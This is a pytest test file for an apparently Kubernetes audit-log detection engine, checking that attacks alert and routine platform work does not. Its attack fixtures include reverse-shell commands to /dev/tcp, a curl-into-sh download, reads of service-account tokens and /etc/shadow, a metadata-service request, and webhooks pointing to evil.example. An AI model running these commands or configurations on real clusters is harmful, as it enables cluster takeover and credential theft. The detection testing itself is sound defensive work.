"""Attacks and the ordinary work that looks like them, as each platform logs them."""

from __future__ import annotations

import base64
import json

import pytest
from seawall.app.detect import detect, load_rules
from seawall.detection.sources.recognise import decode
from seawall.domain.severity import Severity

from tests.detection.events import aks, audit, eks, gke, host_path, pod, workload

RS = "system:serviceaccount:kube-system:replicaset-controller"
DS = "system:serviceaccount:kube-system:daemon-set-controller"
ARGO = "system:serviceaccount:argocd:argocd-application-controller"
MASTERS = ("system:masters", "system:authenticated")
ADMIN = {
    "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "name": "ci", "namespace": "build"}],
}
EXEC = "/api/v1/namespaces/shop/pods/api/exec?"


def alerts(*documents):
    events = []
    for document in documents:
        batch = decode(json.dumps(document).encode())
        assert not batch.rejects
        events += batch.events
    return detect(events)


def worst(*documents):
    return max((alert.severity for alert in alerts(*documents)), default=Severity.UNKNOWN)


def several(document):
    return document if isinstance(document, list) else [document]


def csr(subject: bytes) -> str:
    body = base64.b64encode(b"\x30\x10" + subject)
    return base64.b64encode(
        b"-----BEGIN CERTIFICATE REQUEST-----\n" + body + b"\n-----END CERTIFICATE REQUEST-----\n"
    ).decode()


ATTACKS = [
    ("AU-0101", "privileged pod", audit(ns="shop", body=pod(securityContext={"privileged": True}))),
    ("AU-0101", "privileged init container", audit(ns="shop", body=pod({"initContainers": [{"name": "i", "securityContext": {"privileged": True}}]}))),
    ("AU-0101", "privileged by the replica-set controller", audit(ns="shop", user=RS, body=pod(securityContext={"privileged": True}, owner="web-abc12"))),
    ("AU-0101", "privileged in a CronJob", audit(resource="cronjobs", ns="shop", body=workload(pod(securityContext={"privileged": True}), "CronJob"))),
    ("AU-0101", "privileged by JSON patch", audit("patch", "deployments", ns="shop",
        body=[{"op": "replace", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}])),
    ("AU-0101", "privileged, AKS", aks(audit(ns="shop", body=pod(securityContext={"privileged": True})))),
    ("AU-0101", "privileged, EKS", eks(audit(ns="shop", body=pod(securityContext={"privileged": True})))),
    ("AU-0101", "privileged, GKE", gke("io.k8s.core.v1.pods.create", "core/v1/namespaces/shop/pods/x", request=pod(securityContext={"privileged": True}))),
    ("AU-0101", "privileged debug container", audit("patch", "pods/ephemeralcontainers", ns="shop",
        body={"spec": {"ephemeralContainers": [{"name": "d", "image": "busybox", "securityContext": {"privileged": True}}]}})),
    ("AU-0102", "root of the node", audit(ns="shop", body=host_path("/"))),
    ("AU-0102", "root of the node in disguise", audit(ns="shop", body=host_path("/var/../etc//kubernetes/"))),
    ("AU-0102", "DaemonSet on /var/lib/kubelet", audit(resource="daemonsets", ns="shop", body=workload(host_path("/var/lib/kubelet"), "DaemonSet"))),
    ("AU-0103", "docker socket", audit(ns="ci", body=host_path("/var/run/docker.sock"))),
    ("AU-0103", "containerd socket of k3s", audit(ns="ci", body=host_path("/run/k3s/containerd/containerd.sock"))),
    ("AU-0104", "static-pod folder", audit(ns="shop", body=host_path("/etc/kubernetes/manifests"))),
    ("AU-0105", "hostPID", audit(ns="shop", body=pod({"hostPID": True}))),
    ("AU-0106", "SYS_ADMIN", audit(ns="shop", body=pod(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}))),
    ("AU-0106", "CAP_ form in lower case", audit(ns="shop", body=pod(securityContext={"capabilities": {"add": ["cap_sys_module"]}}))),
    ("AU-0108", "pod in kube-system", audit(ns="kube-system", body=pod())),
    ("AU-0108", "Deployment in kube-system", audit(resource="deployments", ns="kube-system", body=workload(pod()))),
    ("AU-0801", "miner by image", audit(ns="shop", body=pod(image="docker.io/someone/xmrig:latest"))),
    ("AU-0801", "miner by command", audit(ns="shop", body=pod(command=["/a", "-o", "stratum+tcp://pool.example:3333"]))),
    ("AU-0802", "reverse shell in a job", audit(resource="jobs", ns="shop", body=workload(pod(command=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]), "Job"))),
    ("AU-0201", "shell in kube-system", audit("get", "pods/exec", ns="kube-system", name="coredns-1", uri="/api/v1/namespaces/kube-system/pods/coredns-1/exec?command=sh", code=101)),
    ("AU-0202", "token by exec, get 101", audit("get", "pods/exec", ns="shop", uri=EXEC + "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken", code=101)),
    ("AU-0202", "shadow by exec", audit("create", "pods/exec", ns="shop", uri=EXEC + "command=cat&command=/etc/shadow", code=101)),
    ("AU-0203", "metadata by exec", audit("create", "pods/exec", ns="shop", uri=EXEC + "command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data", code=101)),
    ("AU-0204", "reverse shell by exec", audit("create", "pods/exec", ns="shop", uri=EXEC + "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F99+0%3E%261", code=101)),
    ("AU-0204", "curl into sh by exec", audit("create", "pods/exec", ns="shop", uri=EXEC + "command=sh&command=-c&command=curl+http://1.2.3.4/x+%7C+sh", code=101)),
    ("AU-0205", "kubectl cp", audit("create", "pods/exec", ns="shop", uri=EXEC + "command=tar&command=cf&command=-&command=%2Fdata", code=101)),
    ("AU-0206", "debug container", audit("patch", "pods/ephemeralcontainers", ns="shop", body={"spec": {"ephemeralContainers": [{"name": "d", "image": "busybox"}]}})),
    ("AU-0207", "node debugger", audit(ns="default", name="node-debugger-n1-abcde", body=host_path("/", hostPID=True, nodeName="n1"))),
    ("AU-0004", "cluster-admin", audit(resource="clusterrolebindings", body=ADMIN)),
    ("AU-0004", "cluster-admin, GKE", gke("io.k8s.authorization.rbac.v1.clusterrolebindings.create", "rbac.authorization.k8s.io/v1/clusterrolebindings/x", request=ADMIN)),
    ("AU-0003", "anonymous bound", audit(resource="clusterrolebindings", body={"roleRef": {"name": "view"}, "subjects": [{"kind": "User", "name": "system:anonymous"}]})),
    ("AU-0003", "everybody bound to admin", audit(resource="clusterrolebindings", body={"roleRef": {"name": "admin"}, "subjects": [{"kind": "Group", "name": "system:authenticated"}]})),
    ("AU-0501", "wildcard role", audit(resource="clusterroles", body={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]})),
    ("AU-0502", "role with exec", audit(resource="clusterroles", body={"rules": [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]})),
    ("AU-0503", "escalate", audit(resource="clusterroles", body={"rules": [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["escalate", "bind"]}]})),
    ("AU-0007", "system role changed", audit("update", "clusterroles", name="system:node", body={"rules": []})),
    ("AU-0001", "anonymous read", audit("list", "pods", ns="shop", user="system:anonymous", ip="8.8.8.8")),
    ("AU-0301", "all secrets", audit("list", "secrets", name="", uri="/api/v1/secrets")),
    ("AU-0301", "all secrets by a workload", audit("list", "secrets", name="", user="system:serviceaccount:shop:web", uri="/api/v1/secrets?limit=500")),
    ("AU-0303", "platform secret by a workload", audit("get", "secrets", ns="kube-system", user="system:serviceaccount:shop:web")),
    ("AU-0304", "secret by curl", audit("get", "secrets", ns="shop", user="system:serviceaccount:shop:web", agent="curl/8.5.0")),
    ("AU-0401", "CoreDNS", audit("update", "configmaps", ns="kube-system", name="coredns", body={"data": {"Corefile": "rewrite name a b"}})),
    ("AU-0401", "coredns-custom", audit("create", "configmaps", ns="kube-system", name="coredns-custom")),
    ("AU-0402", "webhook", audit(resource="mutatingwebhookconfigurations", body={"webhooks": [{"clientConfig": {"url": "https://evil.example/x"}}]})),
    ("AU-0403", "webhook deleted", audit("delete", "validatingwebhookconfigurations", name="policy")),
    ("AU-0403", "policy to audit", audit("patch", "clusterpolicies", name="p", body={"spec": {"validationFailureAction": "Audit"}})),
    ("AU-0405", "privileged namespace", audit("patch", "namespaces", ns="shop", name="shop", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}})),
    ("AU-0406", "events deleted", audit("deletecollection", "events", ns="shop", name="")),
    ("AU-0407", "sensor deleted", audit("delete", "daemonsets", ns="falco", name="falco")),
    ("AU-0601", "token of kube-system", audit("create", "serviceaccounts/token", ns="kube-system", name="x")),
    ("AU-0007", "all roles of a platform namespace deleted", audit("deletecollection", "roles", ns="kube-system", name="")),
    ("AU-0407", "a policy engine's resource definition deleted", audit("delete", "customresourcedefinitions", name="constrainttemplates.templates.gatekeeper.sh")),
    ("AU-0409", "objects converted outside the cluster", audit("patch", "customresourcedefinitions", name="widgets.example.com",
        body={"spec": {"conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"url": "https://evil.example/c"}}}}})),
    ("AU-0609", "a workload's token at an address that stands for a public one", audit("list", "pods", ns="shop", user="system:serviceaccount:shop:web", ip="203.0.113.7")),
    ("AU-0619", "kubelet's port changed", audit("patch", "nodes/status", name="n1", body={"status": {"daemonEndpoints": {"kubeletEndpoint": {"Port": 443}}}})),
    ("AU-0810", "registry named like ghcr.io", audit(ns="shop", body=pod(image="ghrc.io/acme/app:1"))),
    ("AU-0810", "registry named like docker.io", audit(ns="shop", body=pod(image="doocker.io/acme/app:1"))),
    ("AU-1004", "policy of a whole namespace opened by a patch", audit("patch", "networkpolicies", ns="shop", name="deny", body={"spec": {"ingress": [{}]}},
        responseObject={"kind": "NetworkPolicy", "spec": {"podSelector": {}, "ingress": [{}]}})),
    ("AU-0101", "a node agent's image by somebody else", audit(ns="longhorn-system", body=pod(image="longhornio/longhorn-instance-manager:v1.6", securityContext={"privileged": True}))),
    ("AU-0101", "a node agent's image with a shell, by the agent's own account", audit(ns="longhorn-system", user="system:serviceaccount:longhorn-system:longhorn-service-account",
        body=pod(image="longhornio/longhorn-instance-manager:v1.6", command=["sh", "-c", "id"], securityContext={"privileged": True}))),
    ("AU-0603", "certificate for masters", audit(resource="certificatesigningrequests", body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client", "request": csr(b"system:masters")}})),
    ("AU-0604", "certificate approved", audit("update", "certificatesigningrequests/approval", body={"status": {"conditions": [{"type": "Approved"}]}})),
    ("AU-0605", "acts as masters", audit("list", "pods", ns="shop", impersonatedUser={"username": "root", "groups": ["system:masters"]})),
    ("AU-0607", "kubelet run", audit("create", "nodes/proxy", name="n1", uri="/api/v1/nodes/n1/proxy/run/shop/api/c?cmd=id")),
    ("AU-0609", "token from outside", audit("list", "pods", ns="shop", user="system:serviceaccount:shop:web", ip="203.0.114.9")),
    ("AU-0610", "node with kubectl", audit("list", "pods", ns="shop", user="system:node:n1", groups=("system:nodes",))),
    ("AU-0611", "pod as a control loop", audit(ns="kube-system", body=pod({"serviceAccountName": "clusterrole-aggregation-controller"}))),
    ("AU-0613", "aws-auth", eks(audit("patch", "configmaps", ns="kube-system", name="aws-auth", body={"data": {"mapRoles": "- groups: [system:masters]"}}))),
    ("AU-0701", "can-i with a token", audit("create", "selfsubjectrulesreviews", user="system:serviceaccount:shop:web", name="")),
    ("AU-0702", "kube-hunter", audit("get", "", user="system:serviceaccount:shop:web", agent="python-requests/2.31 kube-hunter", uri="/api")),
    ("AU-0806", "kube-proxy elsewhere", audit(resource="daemonsets", ns="default", name="kube-proxy", body=workload(pod(), "DaemonSet"))),
    ("AU-0901", "dashboard", audit(resource="services", ns="kubernetes-dashboard", name="kubernetes-dashboard", body={"spec": {"type": "LoadBalancer", "selector": {"k8s-app": "kubernetes-dashboard"}}})),
    ("AU-0903", "redis", audit(resource="services", ns="shop", name="cache", body={"spec": {"type": "LoadBalancer", "ports": [{"port": 6379}]}})),
    ("AU-0904", "postgres", audit(resource="services", ns="shop", name="db", body={"spec": {"type": "LoadBalancer", "ports": [{"port": 5432}], "loadBalancerSourceRanges": ["0.0.0.0/0"]}})),
    ("AU-0905", "argo-cd", audit("patch", "services", ns="argocd", name="argocd-server", body={"spec": {"type": "LoadBalancer"}})),
    ("AU-0909", "external address", audit(resource="services", ns="shop", body={"spec": {"externalIPs": ["8.8.8.8"]}})),
    ("AU-1003", "backups", audit("delete", "backups", ns="velero", name="daily", group="velero.io")),
    ("AU-1004", "network policy", audit("delete", "networkpolicies", ns="shop", name="deny-all")),
    ("AU-0008", "binding by a service account with kubectl", audit("patch", "clusterrolebindings", user="system:serviceaccount:shop:web")),
    ("AU-0302", "ten secrets", [audit("get", "secrets", ns="shop", name=f"s{i}") for i in range(10)]),
    ("AU-0402", "webhook sent elsewhere", audit("patch", "mutatingwebhookconfigurations", name="mesh", body={"webhooks": [{"clientConfig": {"url": "https://evil.example/x"}}]})),
    ("AU-0408", "Argo CD's access rules", audit("patch", "configmaps", ns="argocd", name="argocd-rbac-cm", body={"data": {"policy.csv": "g, eve, role:admin"}})),
    ("AU-0408", "front proxy's keys", audit("update", "configmaps", ns="kube-system", name="extension-apiserver-authentication")),
    ("AU-0812", "attack tools", audit(ns="shop", body=pod(image="kalilinux/kali-rolling"))),
    ("AU-0207", "node debugger, body not logged", audit(ns="default", name="node-debugger-n1-abcde")),
]  # fmt: skip


@pytest.mark.parametrize(("analytic", "event"), [pytest.param(a, e, id=f"{a}: {name}") for a, name, e in ATTACKS])
def test_attacks_alert_at_medium_or_higher(analytic, event):
    found = [alert for alert in alerts(*several(event)) if alert.analytic == analytic]
    assert found
    assert found[0].severity >= Severity.MEDIUM
    assert found[0].attack


@pytest.mark.parametrize(
    ("analytic", "event"),
    [
        pytest.param(a, e, id=f"{a}: {name}")
        for a, name, e in ATTACKS
        if "responseStatus" in e and "responseStatus" in json.dumps(e)
    ],
)
def test_a_refused_attempt_is_lower(analytic, event):
    refused = event | {"responseStatus": {"code": 403}}
    ids = {alert.analytic for alert in alerts(refused)}
    assert analytic not in ids or analytic in ("AU-0605", "AU-0610", "AU-0701", "AU-0702")
    assert worst(refused) <= Severity.MEDIUM


SYSTEM = ("system:serviceaccounts", "system:authenticated")
BENIGN = [
    ("kubelet lease", audit("update", "leases", ns="kube-node-lease", name="n1", user="system:node:n1", agent="kubelet/v1.34.0 (linux/amd64) kubernetes/x")),
    ("kubelet reads a pod's secret", audit("get", "secrets", ns="shop", user="system:node:n1", agent="kubelet/v1.34.0 (linux/amd64)")),
    ("kubelet mints a pod's token", audit("create", "serviceaccounts/token", ns="shop", user="system:node:n1", agent="kubelet/v1.34.0")),
    ("kubelet on EKS from the node's public address", eks(audit("create", "serviceaccounts/token", ns="kube-system", user="system:node:ip-10-0-0-1.ec2.internal", ip="54.212.83.236", agent="kubelet/v1.34"))),
    ("kubelet asks for its certificate", audit(resource="certificatesigningrequests", user="system:node:n1", agent="kubelet/v1.34", body={"spec": {"signerName": "kubernetes.io/kubelet-serving"}})),
    ("EKS approves a node's certificate", eks(audit("update", "certificatesigningrequests/approval", user="eks:certificate-controller", body={"status": {"conditions": [{"type": "Approved"}]}}))),
    ("kube-proxy DaemonSet pod on a new node", audit(ns="kube-system", user=DS, body=pod({"hostNetwork": True}, owner="kube-proxy", kind="DaemonSet", securityContext={"privileged": True}))),
    ("aws-node on a new node", eks(audit(ns="kube-system", user=DS, body=host_path("/opt/cni/bin", owner="aws-node", kind="DaemonSet", hostNetwork=True)))),
    ("node-exporter on a new node", audit(ns="monitoring", user=DS, body=host_path("/", read_only=True, owner="node-exporter", kind="DaemonSet", hostPID=True, hostNetwork=True))),
    ("own log collector on a new node", audit(ns="observability", user=DS, body=host_path("/var/log", owner="collector", kind="DaemonSet"))),
    ("static pods of kubeadm", audit(ns="kube-system", name="kube-apiserver-cp1", user="system:node:cp1", agent="kubelet/v1.34",
        body=host_path("/etc/kubernetes/pki", owner="cp1", kind="Node", hostNetwork=True) | {"metadata": {"name": "kube-apiserver-cp1", "annotations": {"kubernetes.io/config.mirror": "x"}, "ownerReferences": [{"kind": "Node", "name": "cp1", "controller": True}]}})),
    ("AKS rolls out an add-on", aks(audit(resource="daemonsets", ns="kube-system", name="azure-cns", user="aksService", groups=MASTERS, body=workload(host_path("/var/run", hostNetwork=True), "DaemonSet")))),
    ("AKS writes CoreDNS", aks(audit("patch", "configmaps", ns="kube-system", name="coredns", user="aksService", groups=MASTERS))),
    ("EKS adds a managed node group", eks(audit("update", "configmaps", ns="kube-system", name="aws-auth", user="eks:addon-manager"))),
    ("GKE add-on manager", gke("io.k8s.apps.v1.daemonsets.patch", "apps/v1/namespaces/kube-system/daemonsets/pdcsi-node", user="system:addon-manager", request=workload(host_path("/var/lib/kubelet"), "DaemonSet"))),
    ("Argo CD creates an operator's role", audit(resource="clusterroles", user=ARGO, body={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}, agent="argocd-application-controller/v2")),
    ("Argo CD creates a privileged DaemonSet", audit(resource="daemonsets", ns="monitoring", user=ARGO, body=workload(host_path("/", hostPID=True), "DaemonSet"), agent="argocd-application-controller/v2")),
    ("Flux applies a binding", audit(resource="clusterrolebindings", user="system:serviceaccount:flux-system:kustomize-controller", body=ADMIN, agent="kustomize-controller/v1")),
    ("cert-manager refreshes its webhook", audit("update", "validatingwebhookconfigurations", name="cert-manager-webhook", user="system:serviceaccount:cert-manager:cert-manager-cainjector", body={"webhooks": [{"failurePolicy": "Fail"}]})),
    ("cert-manager watches secrets", audit("watch", "secrets", name="", user="system:serviceaccount:cert-manager:cert-manager", agent="cert-manager-controller/v1.16", uri="/api/v1/secrets?watch=true")),
    ("controller manager lists secrets", audit("list", "secrets", name="", user="system:kube-controller-manager", uri="/api/v1/secrets", ip="127.0.0.1")),
    ("namespace controller deletes events", audit("deletecollection", "events", ns="old", name="", user="system:serviceaccount:kube-system:namespace-controller")),
    ("a registry whose name is close to another by right", audit(ns="shop", body=pod(image="icr.io/acme/app:1"))),
    ("one application's policy opened by a patch", audit("patch", "networkpolicies", ns="shop", name="web", body={"spec": {"ingress": [{}]}},
        responseObject={"kind": "NetworkPolicy", "spec": {"podSelector": {"matchLabels": {"app": "web"}}, "ingress": [{}]}})),
    ("cloud controller writes a node's addresses", audit("patch", "nodes/status", name="n1", user="system:serviceaccount:kube-system:cloud-controller-manager", body={"status": {"addresses": [{"address": "10.0.0.4"}]}})),
    ("objects converted by a Service of the operator", audit("patch", "customresourcedefinitions", name="widgets.example.com",
        body={"spec": {"conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"service": {"name": "w", "namespace": "w"}}}}}})),
    ("prometheus-operator watches secrets", audit("list", "secrets", name="", user="system:serviceaccount:monitoring:kube-prometheus-stack-operator", agent="PrometheusOperator/0.75", uri="/api/v1/secrets?limit=500")),
    ("external-secrets logs in to a store as a workload", audit("create", "serviceaccounts/token", ns="shop", name="web", user="system:serviceaccount:external-secrets:external-secrets", agent="external-secrets/v0.9")),
    ("Longhorn starts a volume's process on a node", audit(ns="longhorn-system", user="system:serviceaccount:longhorn-system:longhorn-service-account", agent="longhorn-manager/v1.6",
        body=pod(image="longhornio/longhorn-instance-manager:v1.6", securityContext={"privileged": True}))),
    ("leader election in kube-system", audit("update", "leases", ns="kube-system", name="kube-scheduler", user="system:kube-scheduler")),
    ("load balancer health check", eks(audit("get", "", user="system:anonymous", uri="/healthz", agent="ELB-HealthChecker/2.0"))),
    ("Prometheus reads kubelet metrics", audit("get", "nodes/proxy", name="n1", user="system:serviceaccount:monitoring:prometheus-k8s", uri="/api/v1/nodes/n1/proxy/metrics/cadvisor", agent="Prometheus/3.0")),
    ("developer's Deployment", audit(resource="deployments", ns="shop", body=workload(pod(securityContext={"allowPrivilegeEscalation": False, "runAsNonRoot": True})))),
    ("developer's ConfigMap volume", audit(ns="shop", body=pod({"volumes": [{"name": "c", "configMap": {"name": "x"}}]}))),
    ("developer's data folder", audit(ns="shop", body=host_path("/data"))),
    ("localtime of the node", audit(ns="shop", body=host_path("/etc/localtime", read_only=True))),
    ("ordinary capabilities", audit(ns="shop", body=pod(securityContext={"capabilities": {"add": ["NET_BIND_SERVICE", "CHOWN"], "drop": ["ALL"]}}))),
    ("mesh init container", audit(ns="shop", user=RS, body=pod({"initContainers": [{"name": "istio-init", "securityContext": {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}}]}, owner="web-abc12"))),
    ("developer opens a shell", audit("create", "pods/exec", ns="dev", uri="/api/v1/namespaces/dev/pods/api/exec?command=bash&stdin=true&tty=true", code=101)),
    ("developer lists files", audit("get", "pods/exec", ns="dev", uri="/api/v1/namespaces/dev/pods/api/exec?command=ls&command=-la", code=101)),
    ("kubectl cp into a pod", audit("create", "pods/exec", ns="dev", uri="/api/v1/namespaces/dev/pods/api/exec?command=tar&command=-xmf&command=-&command=-C&command=%2Ftmp", code=101)),
    ("CI deploys", audit("patch", "deployments", ns="shop", user="system:serviceaccount:ci:deployer", agent="helm/3.16", body={"spec": {"template": {"spec": {"containers": [{"name": "c", "image": "acme.example/app:2"}]}}}})),
    ("operator makes a pod in its namespace", audit(ns="kafka", user="system:serviceaccount:kafka:strimzi-cluster-operator", agent="fabric8", body=pod())),
    ("operator updates its own secret", audit("update", "secrets", ns="kafka", user="system:serviceaccount:kafka:strimzi-cluster-operator")),
    ("admin scope in a team's namespace", audit(resource="rolebindings", ns="team", body={"roleRef": {"kind": "ClusterRole", "name": "edit"}, "subjects": [{"kind": "Group", "name": "team"}]})),
    ("read-only role", audit(resource="clusterroles", body={"rules": [{"apiGroups": [""], "resources": ["pods", "services"], "verbs": ["get", "list", "watch"]}]})),
    ("operator's role on its own kinds", audit(resource="clusterroles", body={"rules": [{"apiGroups": ["kafka.strimzi.io"], "resources": ["*"], "verbs": ["*"]}]})),
    ("internal load balancer", audit(resource="services", ns="shop", name="redis", body={"metadata": {"annotations": {"service.beta.kubernetes.io/azure-load-balancer-internal": "true"}}, "spec": {"type": "LoadBalancer", "ports": [{"port": 6379}]}})),
    ("limited load balancer", audit(resource="services", ns="shop", name="db", body={"spec": {"type": "LoadBalancer", "ports": [{"port": 5432}], "loadBalancerSourceRanges": ["198.51.100.0/24"]}})),
    ("public shop", audit(resource="services", ns="shop", name="web", body={"spec": {"type": "LoadBalancer", "ports": [{"port": 443}]}})),
    ("ClusterIP redis", audit(resource="services", ns="shop", name="redis", body={"spec": {"type": "ClusterIP", "ports": [{"port": 6379}]}})),
    ("ordinary namespace", audit(resource="namespaces", ns="shop", name="shop", body={"metadata": {"labels": {"team": "shop"}}})),
    ("restricted namespace", audit(resource="namespaces", ns="shop", name="shop", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted"}}})),
    ("administrator tests permissions", audit("list", "pods", ns="shop", user="admin", groups=MASTERS, impersonatedUser={"username": "bob", "groups": ["system:authenticated"]})),
    ("kubectl asks may I", audit("create", "selfsubjectaccessreviews", name="")),
    ("MicroK8s dashboard token by its own account", audit("get", "secrets", ns="kube-system", user="system:serviceaccount:kube-system:kubernetes-dashboard", name="kubernetes-dashboard-certs")),
    ("k3s service load balancer", audit(ns="kube-system", user=DS, body=pod(owner="svclb-traefik", kind="DaemonSet", securityContext={"capabilities": {"add": ["NET_ADMIN"]}}))),
    ("OpenShift cluster version operator", audit("update", "daemonsets", ns="openshift-multus", user="system:serviceaccount:openshift-cluster-version:default", body=workload(host_path("/", hostNetwork=True), "DaemonSet"))),
    ("deny-all network policy", audit(resource="networkpolicies", ns="shop", body={"spec": {"podSelector": {}, "policyTypes": ["Ingress"]}})),
    ("Velero clears an old backup", audit("delete", "backups", ns="velero", group="velero.io", user="system:serviceaccount:velero:velero")),
    ("home-made controller keeps a cache of secrets", audit("list", "secrets", name="", user="system:serviceaccount:tools:mirror", agent="manager/v0.0.0 (linux/amd64) kubernetes/$Format", uri="/api/v1/secrets?limit=500&resourceVersion=0")),
    ("operator writes a role in its namespace", audit(resource="roles", ns="kafka", user="system:serviceaccount:kafka:strimzi-cluster-operator", agent="fabric8-kubernetes-client/6", body={"rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]})),
    ("kubeadm sets up CoreDNS", audit(resource="deployments", ns="kube-system", name="coredns", user="kubernetes-admin", agent="kubeadm/v1.34.0", body=workload(pod(image="registry.k8s.io/coredns/coredns:v1.12")))),
    ("kubeadm writes CoreDNS's configuration", audit(resource="configmaps", ns="kube-system", name="coredns", user="kubernetes-admin", agent="kubeadm/v1.34.0", body={"data": {"Corefile": ".:53 {}"}})),
    ("kubeadm names its administrators", audit(resource="clusterrolebindings", name="kubeadm:cluster-admins", user="kubernetes-super-admin", agent="kubeadm/v1.34.0", body={"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "Group", "name": "kubeadm:cluster-admins"}]})),
    ("kubeadm opens the join information", audit(resource="rolebindings", ns="kube-public", name="kubeadm:bootstrap-signer-clusterinfo", user="kubernetes-admin", agent="kubeadm/v1.34.0", body={"roleRef": {"kind": "Role", "name": "kubeadm:bootstrap-signer-clusterinfo"}, "subjects": [{"kind": "User", "name": "system:anonymous"}]})),
    ("kubeadm stores its configuration", audit(resource="configmaps", ns="kube-system", name="kubeadm-config", user="kubernetes-admin", agent="kubeadm/v1.34.0")),
    ("an etcd of one's own", audit(resource="statefulsets", ns="apisix", name="etcd", body=workload(pod(image="docker.io/bitnami/etcd:3")))),
    ("helm lists its releases", audit("list", "secrets", ns="kube-system", name="", agent="Helm/3.16", uri="/api/v1/namespaces/kube-system/secrets?labelSelector=owner%3Dhelm")),
    ("Java operator reads its secret", audit("get", "secrets", ns="jenkins", user="system:serviceaccount:jenkins:jenkins", agent="okhttp/4.12")),
    ("OpenShift labels a namespace", audit("patch", "namespaces", ns="shop", name="shop", user="system:serviceaccount:openshift-infra:podsecurity-admission-label-syncer-controller", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}})),
    ("job runner clears what it made", [audit("delete", "secrets", ns="runners", name=f"job-{i}", user="system:serviceaccount:runners:gitlab-runner", agent="gitlab-runner/17") for i in range(25)]),
    ("operator reads the secrets of its instances", [audit("get", "secrets", ns="pg", name=f"db-{i}", user="system:serviceaccount:pg:operator", agent="manager/v1 (linux/amd64) kubernetes/abc") for i in range(12)]),
    ("Calico's operator keeps Calico", audit("update", "daemonsets", ns="calico-system", name="calico-node", user="system:serviceaccount:tigera-operator:tigera-operator", agent="operator/v0", body=workload(host_path("/var/run/calico", hostNetwork=True), "DaemonSet"))),
    ("OLM installs an operator's role", audit(resource="clusterroles", user="system:serviceaccount:olm:olm-operator-serviceaccount", agent="olm/v0", body={"rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]}]})),
    ("the fourth disk of Rook", audit(ns="rook-ceph", user=RS, body=host_path("/dev", owner="rook-ceph-osd-3-6c9d8"))),
    ("autoscaler", audit("update", "deployments/scale", ns="shop", user="system:serviceaccount:kube-system:horizontal-pod-autoscaler", body={"spec": {"replicas": 120}})),
]  # fmt: skip


@pytest.mark.parametrize("event", [pytest.param(event, id=name) for name, event in BENIGN])
def test_ordinary_work_stays_under_medium(event):
    assert [
        f"{a.analytic} {a.severity.label} {a.message} {a.reasons}"
        for a in alerts(*several(event))
        if a.severity >= Severity.MEDIUM
    ] == []


@pytest.mark.parametrize(
    "user",
    [
        "system:serviceaccount:kube-system:replicaset-controller2",
        "system:serviceaccount:kube-system:x",
        "aksServiceX",
        "eks:addon-manager2",
        "system:addon-managers",
    ],
)
def test_no_name_that_merely_begins_like_a_platforms_is_exempt(user):
    assert worst(audit(resource="clusterrolebindings", user=user, body=ADMIN)) >= Severity.MEDIUM


def test_impersonating_a_platform_identity_exempts_nobody():
    event = audit(ns="kube-system", body=pod(securityContext={"privileged": True}), impersonatedUser={"username": RS})
    assert worst(event) >= Severity.MEDIUM


def test_folded_alert_holds_who_what_where():
    alert = next(
        a
        for a in alerts(aks(audit(ns="shop", body=pod(securityContext={"privileged": True}))))
        if a.analytic == "AU-0101"
    )
    assert (alert.cluster, alert.namespace, alert.actor, alert.source_ip) == (
        "aks-prod",
        "shop",
        "alice@acme.example",
        "10.0.0.7",
    )
    assert {"user", "ip", "cluster", "namespace", "workload", "image"} <= {
        str(entity.kind) for entity in alert.entities
    }
    assert alert.evidence[0].event_id.startswith("id-")


@pytest.mark.parametrize(
    "rule", [rule for rule in load_rules() if rule.id[:2] in ("AU", "CL", "RG", "IN")], ids=lambda rule: rule.id
)
def test_every_analytic_is_documented(rule):
    assert all((rule.doc, rule.response, rule.needs, rule.benign, rule.investigate, rule.catalogue))
    assert set(rule.platform_notes) <= {"aks", "eks", "gke", "self-managed"}
    assert rule.attack or rule.logic.value == "test" or not rule.enabled
